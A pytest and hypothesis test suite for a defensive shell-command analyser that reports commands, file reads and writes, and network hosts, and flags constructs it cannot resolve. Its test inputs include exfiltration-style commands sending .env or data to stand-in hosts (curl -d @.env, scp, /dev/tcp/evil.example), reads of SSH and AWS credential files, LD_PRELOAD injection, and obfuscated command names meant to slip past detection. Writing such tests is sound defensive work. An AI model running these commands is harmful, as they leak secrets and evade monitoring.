"""The interim shell analyser (``ramparts.shell.analyze`` over ``ramparts.shell.split``).

The "once-missed" section holds cases where bash runs something an earlier version of the analyser
neither reported nor marked opaque (or reported the wrong file access); each was checked against
real bash.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ramparts.shell import Analysis, analyze
from ramparts.shell.analyze import GIT_ELSEWHERE, GIT_HERE, GIT_TRACKED, PROJECT_CONFIG, PROJECT_CONFIG_FILES
from ramparts.shell.split import split


def argvs(analysis: Analysis) -> list[tuple[str, ...]]:
    return [command.argv for command in analysis.commands]


def accesses(analysis: Analysis) -> list[tuple[str, str, str]]:
    return [(f.word, f.mode, f.via) for f in analysis.files]


# -- lists and pipelines -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ls", [("ls",)]),
        ("ls -la /tmp", [("ls", "-la", "/tmp")]),
        ("ls && curl x", [("ls",), ("curl", "x")]),
        ("ls&&curl x", [("ls",), ("curl", "x")]),
        ("ls || curl x", [("ls",), ("curl", "x")]),
        ("ls; curl x", [("ls",), ("curl", "x")]),
        ("ls;curl x", [("ls",), ("curl", "x")]),
        ("ls | curl x", [("ls",), ("curl", "x")]),
        ("ls|curl x", [("ls",), ("curl", "x")]),
        ("ls |& curl x", [("ls",), ("curl", "x")]),
        ("ls & curl x", [("ls",), ("curl", "x")]),
        ("ls &", [("ls",)]),
        ("ls\ncurl x", [("ls",), ("curl", "x")]),
        ("ls\ncurl x\n", [("ls",), ("curl", "x")]),
        ("a && b || c; d | e & f\ng", [("a",), ("b",), ("c",), ("d",), ("e",), ("f",), ("g",)]),
        ("ls ;; curl x", [("ls",), ("curl", "x")]),
        ("ls \\\n -la", [("ls", "-la")]),  # line continuation
        ("echo a\tb\r", [("echo", "a", "b")]),
        ("", []),
        ("   ", []),
    ],
)
def test_lists_and_pipelines(text: str, expected: list[tuple[str, ...]]) -> None:
    result = analyze(text)
    assert argvs(result) == expected
    assert result.opaque == ()


def test_command_text_joins_words() -> None:
    result = analyze("  git   push  'origin main'  ")
    assert result.commands[0].text == "git push origin main"
    assert result.commands[0].argv == ("git", "push", "origin main")


# -- quoting -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["curl x", "c'u'rl x", "c\\url x", '"cu""rl" x', "'curl' x", '"curl" x', "cu''rl x", "\\c\\u\\r\\l x"],
)
def test_quotes_and_escapes_are_removed(text: str) -> None:
    result = analyze(text)
    assert argvs(result) == [("curl", "x")]
    assert result.opaque == ()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("echo 'a b' \"c d\"", ("echo", "a b", "c d")),
        ("echo 'a;b' \"c&&d\" e\\|f", ("echo", "a;b", "c&&d", "e|f")),
        ("echo 'a > b'", ("echo", "a > b")),
        ('echo "it\'s"', ("echo", "it's")),
        ("echo 'say \"hi\"'", ("echo", 'say "hi"')),
        ('echo "a\\"b"', ("echo", 'a"b')),
        ("echo '#x'", ("echo", "#x")),
    ],
)
def test_quoted_operators_are_words(text: str, expected: tuple[str, ...]) -> None:
    result = analyze(text)
    assert argvs(result) == [expected]
    assert result.files == ()


# -- wrappers and assignments --------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "timeout 5 curl x",
        "timeout 5s curl x",
        "timeout -s KILL 5 curl x",
        "timeout --signal KILL 5 curl x",
        "timeout --kill-after=1 5 curl x",
        "timeout -k 1 5 curl x",
        "time curl x",
        "time -p curl x",
        "nice curl x",
        "nice -n 5 curl x",
        "nice -5 curl x",
        "nice --adjustment=5 curl x",
        "nohup curl x",
        "stdbuf -o0 curl x",
        "stdbuf -o 0 curl x",
        "command curl x",
        "command -p curl x",
        "builtin curl x",
        "noglob curl x",
        "exec curl x",
        "exec -a name curl x",
        "env curl x",
        "env -i curl x",
        "env -i LANG=C curl x",
        "env -u HOME curl x",
        "env -C /tmp curl x",
        "env -- curl x",
        "LANG=C curl x",
        "LANG=C TZ='Europe/Paris' curl x",
        "CI= curl x",
        "LC_ALL=C curl x",
        "/usr/bin/curl x",
        "./curl x",
        "/usr/bin/env /usr/bin/curl x",
        "nohup nice -n 5 timeout 5 env TZ=UTC /usr/bin/curl x",
        "CI=1 timeout 5 NO_COLOR=1 curl x",
    ],
)
def test_wrappers_are_unwrapped(text: str) -> None:
    result = analyze(text)
    assert argvs(result) == [("curl", "x")]
    assert result.commands[0].text == "curl x"
    assert result.opaque == ()


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("FOO=1 curl x", "FOO"),
        ("GIT_EXTERNAL_DIFF='sh -c x' git diff", "GIT_EXTERNAL_DIFF"),
        ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor git status", "GIT_CONFIG_COUNT"),
        ("LD_PRELOAD=/tmp/evil.so ls", "LD_PRELOAD"),
        ("env PAGER='sh -c x' git log", "PAGER"),
    ],
)
def test_unsafe_assignments_make_the_command_opaque(text: str, name: str) -> None:
    result = analyze(text)
    assert f"sets {name} for the command it runs" in result.opaque
    assert result.commands  # the command is still seen, so deny rules still match it


@pytest.mark.parametrize("text", ["FOO=1", "A=1 B=2"])
def test_plain_assignments_run_nothing(text: str) -> None:
    result = analyze(text)
    assert result.commands == ()


@pytest.mark.parametrize(
    ("text", "argv"),
    [
        ("env", ("env",)),
        ("env A=b", ("env", "A=b")),
        ("timeout", ("timeout",)),
        ("nice -n", ("nice", "-n")),
        ("nohup", ("nohup",)),
    ],
)
def test_a_wrapper_with_nothing_to_run_is_the_command(text: str, argv: tuple[str, ...]) -> None:
    """`env` alone prints the environment: rules must see it, not an empty command."""
    assert [c.argv for c in analyze(text).commands] == [argv]


def test_env_split_string_is_opaque() -> None:
    result = analyze("env -S 'curl x'")
    assert "env -S splits a string into a command" in result.opaque


def test_deeply_nested_wrappers_are_opaque() -> None:
    result = analyze("nohup " * 20 + "curl x")
    assert "wrappers nested too deep" in result.opaque


def test_path_program_name_is_reduced_to_basename() -> None:
    result = analyze("/usr/local/bin/python3 script.py")
    assert result.commands[0].argv == ("python3", "script.py")
    assert result.commands[0].text == "python3 script.py"


# -- redirections --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected_argv", "expected_files"),
    [
        ("cat < in.txt", ("cat",), [("in.txt", "read", "redirect")]),
        ("cat <in.txt", ("cat",), [("in.txt", "read", "redirect")]),
        ("cat 0<in.txt", ("cat",), [("in.txt", "read", "redirect")]),
        ("echo hi > out", ("echo", "hi"), [("out", "write", "redirect")]),
        ("echo hi>out", ("echo", "hi"), [("out", "write", "redirect")]),
        ("echo hi >> out", ("echo", "hi"), [("out", "write", "redirect")]),
        ("cmd 2> err", ("cmd",), [("err", "write", "redirect")]),
        ("cmd 2>err", ("cmd",), [("err", "write", "redirect")]),
        ("cmd 2>> err", ("cmd",), [("err", "write", "redirect")]),
        ("cmd &> all", ("cmd",), [("all", "write", "redirect")]),
        ("cmd &>> all", ("cmd",), [("all", "write", "redirect")]),
        ("cmd >| out", ("cmd",), [("out", "write", "redirect")]),
        ("cmd >&out", ("cmd",), [("out", "write", "redirect")]),
        ("cmd 2>&1", ("cmd",), []),
        ("cmd >&2", ("cmd",), []),
        ("cmd 1>&2", ("cmd",), []),
        ("cmd 2>&-", ("cmd",), []),
        ("cmd 0<&3", ("cmd",), []),
        ("cmd > out 2>&1", ("cmd",), [("out", "write", "redirect")]),
        ("cmd 2>/dev/null", ("cmd",), [("/dev/null", "write", "redirect")]),
        ("cmd < in > out", ("cmd",), [("in", "read", "redirect"), ("out", "write", "redirect")]),
        ("> out", None, [("out", "write", "redirect")]),
        ("cmd > 'my file'", ("cmd",), [("my file", "write", "redirect")]),
    ],
)
def test_redirections_are_file_accesses(
    text: str, expected_argv: tuple[str, ...] | None, expected_files: list[tuple[str, str, str]]
) -> None:
    result = analyze(text)
    assert argvs(result) == ([expected_argv] if expected_argv else [])
    assert accesses(result) == expected_files
    assert result.opaque == ()


def test_redirect_records_its_command_index() -> None:
    parsed = split("a > one; b 2> two | c < three")
    assert [(r.op, r.target, r.command) for r in parsed.redirects] == [
        (">", "one", 0),
        (">", "two", 1),
        ("<", "three", 2),
    ]


@pytest.mark.parametrize("text", ["echo hi >", "echo hi > ; ls", "echo hi > | ls", "cat < > x", "cat > (x)"])
def test_redirect_without_target_is_opaque(text: str) -> None:
    opaque = analyze(text).opaque
    assert any("without a target" in reason or "does not parse" in reason for reason in opaque)


@pytest.mark.parametrize("text", [";", "cmd <> rw", "echo \\"])
def test_what_bash_would_reject_is_opaque(text: str) -> None:
    assert "the command does not parse completely" in analyze(text).opaque


# -- readers and writers -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("cat .env", [(".env", "read", "argument")]),
        ("cat -n a b", [("a", "read", "argument"), ("b", "read", "argument")]),
        ("cat -- -f", [("-f", "read", "argument")]),
        ("cat -", [("-", "read", "argument")]),
        ("/bin/cat .env", [(".env", "read", "argument")]),
        ("timeout 5 cat .env", [(".env", "read", "argument")]),
        ("grep pat f", [("f", "read", "argument")]),
        ("grep -r pat f g", [("f", "read", "argument"), ("g", "read", "argument")]),
        ("grep -e pat f", [("f", "read", "argument")]),
        ("grep pat", []),
        ("rg -- -pat f", [("f", "read", "argument")]),
        ("sed -n p f", [("f", "read", "argument")]),
        ("awk '{print}' f", [("f", "read", "argument")]),
        ("jq . f.json", [("f.json", "read", "argument")]),
        ("head -n5 f", [("f", "read", "argument")]),
        ("tail -f log", [("log", "read", "argument")]),
        ("base64 .env", [(".env", "read", "argument")]),
        ("cat ~/.ssh/id_rsa", [("~/.ssh/id_rsa", "read", "argument")]),
        ("cat sec*.env", [("sec*.env", "read", "argument")]),
        ("dd if=in of=out bs=1", [("in", "read", "argument"), ("out", "write", "argument")]),
        ("tee f", [("f", "write", "argument")]),
        ("tee -a f g", [("f", "write", "argument"), ("g", "write", "argument")]),
        ("touch a", [("a", "write", "argument")]),
        ("rm -rf a b", [("a", "write", "argument"), ("b", "write", "argument")]),
        ("chmod 600 f", [("600", "write", "argument"), ("f", "write", "argument")]),
        ("cp a b", [("a", "read", "argument"), ("b", "write", "argument")]),
        ("cp -r a b c", [("a", "read", "argument"), ("b", "read", "argument"), ("c", "write", "argument")]),
        ("mv a b", [("a", "read", "argument"), ("b", "write", "argument")]),
        ("ln -s target link", [("target", "read", "argument"), ("link", "write", "argument")]),
        ("cp", []),
        ("ls -la /etc", []),  # not a reader: listing is not reading
        ("echo .env", []),
    ],
)
def test_readers_and_writers(text: str, expected: list[tuple[str, str, str]]) -> None:
    assert accesses(analyze(text)) == expected


def test_head_with_separate_count_reports_the_file() -> None:
    # the count is also reported as a (harmless) read of a file named '5'
    files = accesses(analyze("head -n 5 f"))
    assert ("f", "read", "argument") in files


def test_pipeline_reader_and_redirect() -> None:
    result = analyze("cat .env | base64 > out.b64")
    assert argvs(result) == [("cat", ".env"), ("base64",)]
    assert accesses(result) == [(".env", "read", "argument"), ("out.b64", "write", "redirect")]


# -- opaque constructs ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("cat $(id)", "command substitution output is only known when it runs"),
        ("FOO=$(touch p) echo hi", "command substitution output is only known when it runs"),
        ("cat `id`", "backtick output is only known when it runs"),
        ("cat $HOME", "$ expansion (value unknown before it runs)"),  # echo $HOME only prints it (issue 13)
        ("echo $API_TOKEN", "$ expansion (value unknown before it runs)"),  # a credential's name
        ("cat ${FILE}", "$ expansion (value unknown before it runs)"),
        ("X=.env; cat $X", "$ expansion (value unknown before it runs)"),
        ("eval ls", "'eval' runs a command this analyser cannot see whole"),
        ("source x.sh", "'source' runs a command this analyser cannot see"),
        (". x.sh", "'.' runs a command this analyser cannot see"),
        ("xargs rm", "'xargs' runs a command this analyser cannot see whole"),
        ("bash script.sh", "'bash' runs a command this analyser cannot see"),
        ("sh", "'sh' runs a command this analyser cannot see"),
        ("python3", "python3 reads code from stdin"),
        ("python3 - < script.py", "python3 reads code from stdin"),
        ("tee >(ls a) < b", "process substitution output is only known when it runs"),
        ("echo 'unbalanced", "the command does not parse completely"),
        ('echo "unbalanced', "the command does not parse completely"),
        ("for f in *; do cat $f; done", "$ expansion (value unknown before it runs)"),
        ("cat 😀", "characters beyond U+FFFF, which the bash parser cannot read safely"),
    ],
)
def test_opaque_constructs(text: str, reason: str) -> None:
    result = analyze(text)
    assert reason in result.opaque


@pytest.mark.parametrize(
    "text", ["python3 script.py", "python3 -m pytest", "node app.js", "perl script.pl", "ruby x.rb"]
)
def test_interpreter_running_a_file_is_not_opaque(text: str) -> None:
    assert analyze(text).opaque == ()


def test_opaque_reasons_are_deduplicated() -> None:
    result = analyze("eval a; eval b; (x); (y)")
    assert len(result.opaque) == len(set(result.opaque))
    assert result.opaque.count("'eval' runs a command this analyser cannot see whole") == 1


@pytest.mark.parametrize(
    ("text", "inner"),
    [
        ("bash -c 'touch p'", ("touch", "p")),
        ("sh -c 'git push origin main'", ("git", "push", "origin", "main")),
        ("/bin/zsh -c ls", ("ls",)),
        ("timeout 5 bash -c 'sudo ls'", ("sudo", "ls")),
        ("echo x | xargs sudo ls", ("sudo", "ls")),
        ("eval 'curl x'", ("curl", "x")),
    ],
)
def test_commands_inside_shell_strings_are_seen(text: str, inner: tuple[str, ...]) -> None:
    assert inner in argvs(analyze(text))


@pytest.mark.parametrize(
    ("text", "inner"),
    [
        ("if true; then sudo ls; fi", ("sudo", "ls")),
        ("{ sudo ls; }", ("sudo", "ls")),
        ("while true; do curl x; done", ("curl", "x")),
        ("! curl x", ("curl", "x")),
    ],
)
def test_commands_in_control_structures_are_seen(text: str, inner: tuple[str, ...]) -> None:
    result = analyze(text)
    assert inner in argvs(result)
    assert all("control structure" not in reason for reason in result.opaque)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("git -C . push origin main", ("git", "push", "origin", "main")),
        ("git --no-pager -C /x --git-dir=/x/.git log", ("git", "log")),
        ("git -c core.pager=cat status", ("git", "status")),
    ],
)
def test_git_global_options_are_dropped(text: str, expected: tuple[str, ...]) -> None:
    assert argvs(analyze(text)) == [expected]


def test_git_config_option_is_opaque() -> None:
    assert "git -c/--exec-path can make git run other programs" in analyze("git -c a=b status").opaque


@pytest.mark.parametrize(
    ("text", "access"),
    [
        ("git show HEAD:.env", (".env", "read", "argument")),
        ("git log --output=/root/.bashrc", ("/root/.bashrc", "write", "argument")),
        ("git diff --output x.patch", ("x.patch", "write", "argument")),
        ("git diff --no-index .env /dev/null", (".env", "read", "argument")),
        ("grep -f .env README.md", (".env", "read", "argument")),
    ],
)
def test_git_and_pattern_file_accesses(text: str, access: tuple[str, str, str]) -> None:
    assert access in accesses(analyze(text))


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ("grep -r KEY ~", "~"),
        ("grep -rn x", "."),
        ("grep -R x src", "src"),
        ("rg KEY", "."),
        ("diff -r a b", "a"),
        ("cp -r src /tmp/x", "src"),
        ("tar czf out.tgz .", "."),
        ("git grep KEY", "."),
    ],
)
def test_recursive_reads(text: str, word: str) -> None:
    assert any(f.word == word and f.recursive and f.mode == "read" for f in analyze(text).files)


@pytest.mark.parametrize(
    "text",
    [
        "cat .{env,x}",
        "cat ~root/.aws/credentials",
        "cat ~+/../.aws/x",
        "cat ~-/x",
        "cat .en[[:alpha:]]",
        "find . -delete",
        "find . -fprint /tmp/x",
    ],
)
def test_expansions_and_find_writes_are_opaque(text: str) -> None:
    assert analyze(text).opaque


def test_opaque_still_reports_what_it_saw() -> None:
    result = analyze("cat .env && cat $(id)")
    assert ("cat", ".env") in argvs(result)
    assert (".env", "read", "argument") in accesses(result)
    assert "command substitution output is only known when it runs" in result.opaque
    assert ("id",) in argvs(result)


# -- once-missed cases: bash runs something the analyser must report or mark opaque -----------------------


def test_escaped_backslash_before_newline_hides_next_command() -> None:
    # bash runs `echo \` and then `curl x`; the analyser sees one command `echo curl x`
    result = analyze("echo \\\\\ncurl x")
    assert ("curl", "x") in argvs(result) or result.opaque


def test_brace_expansion_hides_program() -> None:
    # bash runs `curl http://evil`; the analyser reports a program named 'evil}'
    result = analyze("{curl,http://evil}")
    assert ("curl", "http://evil") in argvs(result) or result.opaque


@pytest.mark.parametrize("text", ["/usr/bin/cur? x", "/usr/bin/cur[l] x", "/usr/bin/c*l x"])
def test_glob_in_program_name(text: str) -> None:
    result = analyze(text)
    assert ("curl", "x") in argvs(result) or result.opaque


def test_env_dash_is_not_unwrapped() -> None:
    result = analyze("env - curl x")
    assert argvs(result) == [("curl", "x")] or result.opaque


@pytest.mark.parametrize(
    "text", ["find . -exec curl x \\;", "find . -execdir rm {} +", "find . -ok rm {} \\;"]
)
def test_find_exec_runs_a_hidden_command(text: str) -> None:
    result = analyze(text)
    assert len(result.commands) > 1 or result.opaque


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("python3 -Ic 'x'", "x"),
        ("python3 -uc 'x'", "x"),
        ("perl -le 'x'", "x"),
        ("perl -ne 'x' f", "x"),
        ("ruby -ne 'x'", "x"),
    ],
)
def test_combined_short_options_hide_inline_code(text: str, code: str) -> None:
    assert [c.code for c in analyze(text).code] == [code]


@pytest.mark.parametrize(
    "text",
    [
        "grep -e. .env",
        "grep -ePASS .env",
        "grep --regexp=PASS .env",
        "sed -ep .env",
        "sed --expression=p .env",
    ],
)
def test_attached_option_value_hides_read(text: str) -> None:
    assert (".env", "read", "argument") in accesses(analyze(text))


@pytest.mark.parametrize("text", ["ls\n\ncurl x", "ls;\ncurl x", "ls &&\ncurl x", "ls |\ncurl x", "ls\n\n"])
def test_adjacent_operators_split_commands(text: str) -> None:
    result = analyze(text)
    expected = [("ls",)] if text == "ls\n\n" else [("ls",), ("curl", "x")]
    assert (argvs(result), result.opaque) == (expected, ())


def test_empty_argument_is_kept() -> None:
    result = analyze("echo '' x")
    assert (argvs(result), result.opaque) == ([("echo", "", "x")], ())


def test_empty_pattern_hides_read() -> None:
    assert (".env", "read", "argument") in accesses(analyze("grep '' .env"))


def test_sed_in_place_is_a_write() -> None:
    assert ("f", "write", "argument") in accesses(analyze("sed -i s/a/b/ f"))


def test_cp_target_directory_option() -> None:
    files = accesses(analyze("cp -t dest src"))
    assert ("dest", "write", "argument") in files
    assert ("src", "write", "argument") not in files


def test_digit_argument_before_spaced_redirect_is_dropped() -> None:
    # bash: `git branch 5 >/dev/null` creates branch '5'; the analyser sees `git branch`
    assert argvs(analyze("git branch 5 >/dev/null")) == [("git", "branch", "5")]


# -- properties ----------------------------------------------------------------------------------

_SHELLISH = st.lists(
    st.one_of(
        st.sampled_from(
            [
                " ",
                "\t",
                "\n",
                ";",
                "&",
                "&&",
                "|",
                "||",
                "|&",
                "<",
                ">",
                ">>",
                "2>",
                "&>",
                "2>&1",
                "(",
                ")",
                "'",
                '"',
                "\\",
                "\\\n",
                "$",
                "$(",
                "`",
                "<<",
                "#",
                "=",
                "-",
                "--",
                "*",
                "?",
                "[",
                "]",
                "{",
                "}",
                "~",
                "/",
                "\x00",
                "\r",
                "cat",
                "curl",
                "env",
                "timeout",
                "5",
                "nice",
                "-n",
                "A=1",
                "bash",
                "-c",
                "python3",
                "eval",
                "grep",
                "cp",
                "tee",
                "dd",
                "if=x",
                "of=y",
                ".env",
                "sed",
                "exec",
                "-a",
                "nohup",
            ]
        ),
        st.text(max_size=5),
    ),
    max_size=40,
).map("".join)


def _check(text: str) -> Analysis:
    result = analyze(text)
    assert isinstance(result, Analysis)
    for command in result.commands:
        assert command.argv, "every command has a non-empty argv"
        assert command.text == " ".join(command.argv)
    for file in result.files:
        assert file.mode in ("read", "write")
        assert file.via in ("argument", "redirect", GIT_TRACKED, GIT_HERE, GIT_ELSEWHERE) or (
            file.via.startswith(PROJECT_CONFIG)
            and file.via[len(PROJECT_CONFIG) :] in (*PROJECT_CONFIG_FILES, "git")
        )
    assert len(result.opaque) == len(set(result.opaque))
    return result


@settings(max_examples=500, deadline=None)
@given(st.text())
def test_analyze_never_raises_on_text(text: str) -> None:
    _check(text)


@settings(max_examples=500, deadline=None)
@given(_SHELLISH)
def test_analyze_never_raises_on_shellish_text(text: str) -> None:
    _check(text)


@settings(max_examples=20, deadline=None)
@given(st.text(min_size=1, max_size=50), st.integers(min_value=1_000, max_value=100_000))
def test_analyze_never_raises_on_huge_input(chunk: str, size: int) -> None:
    _check((chunk * (size // len(chunk) + 1))[:size])


@pytest.mark.parametrize(
    "text",
    [
        "cat x\x00y",
        "\x00",
        "ls " + "a" * 100_000,
        "ls; " * 25_000,
        "(" * 50_000,
        "'" * 100_001,
        "nohup " * 10_000 + "curl",
        "A=1 " * 20_000,
        "é文字 🙂 \u202e \ufeff \u2028",
    ],
)
def test_analyze_edge_inputs(text: str) -> None:
    _check(text)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.from_regex(r"[a-z][a-z0-9_.-]{0,8}", fullmatch=True), min_size=1, max_size=6))
def test_plain_words_round_trip(words: list[str]) -> None:
    """Unquoted plain words that are no keyword or wrapper come back unchanged as one command."""
    from ramparts.shell.analyze import OPAQUE_RUNNERS, SHELL_KEYWORDS
    from ramparts.shell.unwrap import WRAPPERS

    if words[0] in WRAPPERS or words[0] in OPAQUE_RUNNERS or words[0] in SHELL_KEYWORDS:
        words = ["x", *words]
    result = analyze(" ".join(words))
    assert argvs(result) == [tuple(words)]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.from_regex(r"[a-z]{1,6}", fullmatch=True), min_size=2, max_size=6),
    st.lists(st.sampled_from([" && ", " || ", "; ", " | ", " |& ", " & ", "\n"]), min_size=5, max_size=5),
)
def test_every_separator_splits(words: list[str], seps: list[str]) -> None:
    from ramparts.shell.analyze import OPAQUE_RUNNERS, SHELL_KEYWORDS
    from ramparts.shell.unwrap import WRAPPERS

    words = [f"z{w}" if w in WRAPPERS or w in OPAQUE_RUNNERS or w in SHELL_KEYWORDS else w for w in words]
    text = words[0] + "".join(sep + word for sep, word in zip(seps, words[1:], strict=False))
    assert argvs(analyze(text)) == [(w,) for w in words]


# -- what the bash parser sees that a tokenizer could not ----------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("$'\\x63url' x", ("curl", "x")),
        ("$'\\143url' x", ("curl", "x")),
        ("c'u'rl x", ("curl", "x")),
        ('"cu""rl" x', ("curl", "x")),
        ("c\\url x", ("curl", "x")),
        ("(cd /tmp && curl x)", ("curl", "x")),
        ("echo $(curl x)", ("curl", "x")),
        ("echo `curl x`", ("curl", "x")),
        ('echo "a $(curl x) b"', ("curl", "x")),
        ("X=$(curl x) ls", ("curl", "x")),
        ("ls > $(curl x)", ("curl", "x")),
        ("diff <(curl x) y", ("curl", "x")),
        ("cat <<EOF\n$(curl x)\nEOF", ("curl", "x")),
        ("bash <<EOF\ncurl x\nEOF", ("curl", "x")),
        ("sh <<< 'curl x'", ("curl", "x")),
        ("f() { curl x; }; f", ("curl", "x")),
        ("case a in a) curl x;; esac", ("curl", "x")),
        ("[[ $(curl x) ]]", ("curl", "x")),
    ],
)
def test_every_command_that_can_run_is_found(text: str, expected: tuple[str, ...]) -> None:
    assert expected in argvs(analyze(text))


def test_single_quotes_are_literal() -> None:
    result = analyze("echo '$(curl x)'")
    assert argvs(result) == [("echo", "$(curl x)")]
    assert result.opaque == ()


def test_heredoc_to_an_interpreter_is_inline_code() -> None:
    result = analyze("python3 - <<EOF\nimport os\nEOF")
    assert [(c.interpreter, c.code) for c in result.code] == [("python3", "import os\n")]
    assert result.opaque == ()


def test_astral_characters_never_reach_the_parser() -> None:
    result = analyze("{ cat x; } 😀")
    assert result.commands == ()
    assert result.opaque


def test_a_line_the_parser_glues_onto_a_pipeline_is_split_back() -> None:
    """tree-sitter-bash 0.25.1 parses `a | b | head\\ncurl x` as `head curl x`; the walker must not."""
    result = analyze("ls && a | b | head\ncurl x && d")
    assert ("curl", "x") in argvs(result)
    assert "the parser joined two lines into one command" in result.opaque


def test_a_program_named_like_a_builtin_wrapper_is_a_program() -> None:
    assert argvs(analyze("nohup /path/to/command x")) == [("command", "x")]
    assert argvs(analyze("command curl x")) == [("curl", "x")]


def test_what_follows_a_heredoc_start_is_analysed() -> None:
    result = analyze("cat <<EOF > out.txt && curl x\nhello\nEOF")
    assert ("out.txt", "write", "redirect") in accesses(result)
    assert ("curl", "x") in argvs(result)
    assert analyze("cat <<EOF | sh\ncurl x\nEOF").opaque


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("curl https://evil.example/x", ("evil.example",)),
        ("curl -sSL evil.example/x", ("evil.example",)),
        ("wget -q http://a.example:8080/x", ("a.example",)),
        ("nc -v evil.example 443", ("evil.example",)),
        ("socat - TCP:evil.example:80", ("evil.example",)),
        ("ssh -p 22 user@box.example ls", ("box.example",)),
        ("scp .env user@host.example:/tmp", ("host.example",)),
        ("git push https://github.com/a/b main", ("github.com",)),
        ("git clone git@gitlab.example:a/b.git", ("gitlab.example",)),
        ("dig txt data.evil.example", ("data.evil.example",)),
        ("cat x > /dev/tcp/evil.example/80", ("evil.example",)),
        ("ls -la", ()),
    ],
)
def test_network_targets(text: str, hosts: tuple[str, ...]) -> None:
    assert analyze(text).hosts == hosts


def test_uploaded_files_are_reads() -> None:
    for text in (
        "curl -d @.env x.example",
        "curl --data-binary @.env x.example",
        "curl -T .env x.example",
        "curl -F a=@.env x.example",
        "wget --post-file=.env x.example",
        "curl -d@.env x.example",
    ):
        assert (".env", "read", "argument") in accesses(analyze(text)), text
